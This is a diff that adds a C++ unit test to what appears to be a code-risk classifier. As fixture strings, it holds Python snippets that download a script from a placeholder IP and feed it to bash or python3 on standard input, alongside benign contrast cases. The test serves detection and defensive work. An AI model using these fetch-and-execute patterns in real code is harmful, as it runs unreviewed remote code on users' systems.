@@ -188,5 +188,29 @@ TEST(RubricClasses, NativeCodeFromMemory) {
   for (const auto& c : cases) check(c);
 }
 
+// What a shell or an interpreter reads on its standard input is the code it runs.
+TEST(RubricClasses, CodeOnStandardInput) {
+  const Case cases[] = {
+      {"a download given to bash as input=", B,
+       "import subprocess, requests\nscript = requests.get('http://203.0.113.9/i.sh', timeout=5).text\n"
+       "subprocess.run(['bash'], input=script, text=True)\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"sh library: curl's output fed to bash with _in=", B,
+       "from sh import curl, bash\nscript = curl('-s', 'http://203.0.113.9/i.sh')\nbash(_in=script)\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a download given to python3 - on stdin", B,
+       "import subprocess, urllib.request\ncode = urllib.request.urlopen('http://203.0.113.9/p').read()\n"
+       "subprocess.check_output(['python3', '-'], input=code)\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a download given to grep is data, not code", M,
+       "import subprocess, requests\nr = requests.get('https://example.com/data.txt', timeout=5)\n"
+       "subprocess.run(['grep', '-c', 'error'], input=r.text, text=True)\n",
+       "RUNS-PROCESS"},
+      {"our own constant script on bash's stdin", M,
+       "import subprocess\nsubprocess.run(['bash'], input='echo ready', text=True)\n", "RUNS-PROCESS"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
